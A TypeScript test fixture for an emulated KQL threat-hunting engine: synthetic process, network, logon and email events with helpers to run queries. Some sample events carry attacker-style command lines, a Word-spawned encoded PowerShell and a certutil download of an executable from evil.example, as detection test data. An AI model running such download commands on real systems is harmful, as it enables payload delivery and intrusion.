import { KqlEngine } from '../../../src/emulator/kql/engine.js';
import type {
  HuntingDatabase,
  HuntingResult,
  HuntingRunOptions,
  Row,
} from '../../../src/emulator/kql/table.js';
import { database } from '../../helpers/hunting-tables.js';

export const NOW = Date.parse('2024-03-26T12:00:00Z');
const H = 3_600_000;

/** A small hand-made world: two devices, a handful of processes, connections, logons, mails, alerts. */
export const db: HuntingDatabase = database({
  DeviceProcessEvents: [
    {
      Timestamp: NOW - 1 * H,
      DeviceId: 'd1',
      DeviceName: 'pc1.contoso.com',
      ActionType: 'ProcessCreated',
      FileName: 'powershell.exe',
      ProcessCommandLine: 'powershell.exe -NoP -EncodedCommand SQBFAFgA',
      AccountName: 'alice',
      InitiatingProcessFileName: 'winword.exe',
      ProcessId: 100,
      AdditionalFields: '{"Signed":true,"Tags":["a","b"]}',
    },
    {
      Timestamp: NOW - 2 * H,
      DeviceId: 'd1',
      DeviceName: 'pc1.contoso.com',
      ActionType: 'ProcessCreated',
      FileName: 'cmd.exe',
      ProcessCommandLine: 'cmd.exe /c whoami',
      AccountName: 'alice',
      InitiatingProcessFileName: 'explorer.exe',
      ProcessId: 101,
    },
    {
      Timestamp: NOW - 3 * H,
      DeviceId: 'd2',
      DeviceName: 'pc2.contoso.com',
      ActionType: 'ProcessCreated',
      FileName: 'CertUtil.exe',
      ProcessCommandLine: 'certutil -urlcache -split -f http://evil.example/a.exe',
      AccountName: 'bob',
      InitiatingProcessFileName: 'cmd.exe',
      ProcessId: 102,
    },
    {
      Timestamp: NOW - 4 * H,
      DeviceId: 'd2',
      DeviceName: 'pc2.contoso.com',
      ActionType: 'ProcessCreated',
      FileName: 'cmd.exe',
      ProcessCommandLine: 'cmd.exe /c dir',
      AccountName: 'bob',
      InitiatingProcessFileName: 'explorer.exe',
      ProcessId: 103,
    },
    {
      // Outside the default 30-day window.
      Timestamp: NOW - 40 * 24 * H,
      DeviceId: 'd2',
      DeviceName: 'pc2.contoso.com',
      FileName: 'old.exe',
      ProcessCommandLine: 'old.exe',
    },
  ],
  DeviceNetworkEvents: [
    {
      Timestamp: NOW - 1 * H,
      DeviceId: 'd1',
      RemoteIP: '203.0.113.7',
      RemotePort: 443,
      RemoteUrl: 'evil.example',
    },
    { Timestamp: NOW - 1 * H, DeviceId: 'd1', RemoteIP: '10.0.0.5', RemotePort: 445 },
    { Timestamp: NOW - 2 * H, DeviceId: 'd2', RemoteIP: '192.168.1.9', RemotePort: 3389 },
    { Timestamp: NOW - 5 * H, DeviceId: 'd3', RemoteIP: '8.8.8.8', RemotePort: 53 },
  ],
  DeviceLogonEvents: [
    {
      Timestamp: NOW - 5 * H,
      DeviceId: 'd1',
      ActionType: 'LogonFailed',
      AccountName: 'alice',
      IsLocalAdmin: false,
    },
    {
      Timestamp: NOW - 4 * H,
      DeviceId: 'd1',
      ActionType: 'LogonFailed',
      AccountName: 'alice',
      IsLocalAdmin: false,
    },
    {
      Timestamp: NOW - 3 * H,
      DeviceId: 'd1',
      ActionType: 'LogonSuccess',
      AccountName: 'alice',
      IsLocalAdmin: true,
    },
  ],
  EmailEvents: [
    { Timestamp: NOW - 6 * H, SenderFromDomain: 'phish.example', RecipientEmailAddress: 'alice@contoso.com' },
    { Timestamp: NOW - 6 * H, SenderFromDomain: 'phish.example', RecipientEmailAddress: 'bob@contoso.com' },
    { Timestamp: NOW - 7 * H, SenderFromDomain: 'contoso.com', RecipientEmailAddress: 'bob@contoso.com' },
  ],
});

export const engine = new KqlEngine();

export function run(
  query: string,
  options: Partial<HuntingRunOptions> = {},
  on: HuntingDatabase = db,
): Promise<HuntingResult> {
  return engine.run(on, query, { now: NOW, ...options });
}

/** Just the cells, for compact expectations. */
export async function rows(query: string, options: Partial<HuntingRunOptions> = {}): Promise<Row[]> {
  return (await run(query, options)).results;
}
